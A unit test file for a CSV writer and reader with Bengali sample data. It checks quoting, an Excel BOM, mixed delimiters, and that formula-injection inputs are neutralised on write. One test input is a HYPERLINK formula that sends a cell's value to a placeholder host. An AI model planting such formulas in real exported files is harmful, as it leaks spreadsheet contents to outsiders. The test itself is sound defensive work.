import { readCsv, writeCsv } from './csv.ts';

it('writes what it can read again, under the mark that Excel needs', () => {
  const table = [
    ['নাম', 'ঠিকানা'],
    ['করিম "কাকা"', 'বাড়ি ১,\nমধুখালী'],
  ];
  const text = writeCsv(table);
  expect(text).toBe('\ufeffনাম,ঠিকানা\r\n"করিম ""কাকা""","বাড়ি ১,\nমধুখালী"\r\n');
  expect(readCsv(text)).toEqual(table);
});

it.each([
  ...['=1+1', '+8801712345678', '-5', '@SUM(A1)', '\tx', '\rx', '\n=1', '\uff1d1+1'],
  // A parser's pattern that ends at the first line lets this one through.
  '=HYPERLINK("http://x.example/?"&B2,\n"open")',
])('makes %j harmless in a spreadsheet and reads it back as it was', (cell) => {
  expect(writeCsv([[cell]])).toContain(`'${cell.replaceAll('"', '""')}`);
  expect(readCsv(writeCsv([[cell, 'ঠিক']]))).toEqual([[cell, 'ঠিক']]);
});

it('reads semicolons and tabs, any line end, and a last line without one', () => {
  expect(readCsv('ক;খ\r১;২\r৩;৪')).toEqual([
    ['ক', 'খ'],
    ['১', '২'],
    ['৩', '৪'],
  ]);
  expect(readCsv('ক\tখ\r\n১\t২\r\n')).toEqual([
    ['ক', 'খ'],
    ['১', '২'],
  ]);
});

it('reads an empty file as no rows', () => {
  expect(readCsv('')).toEqual([]);
});
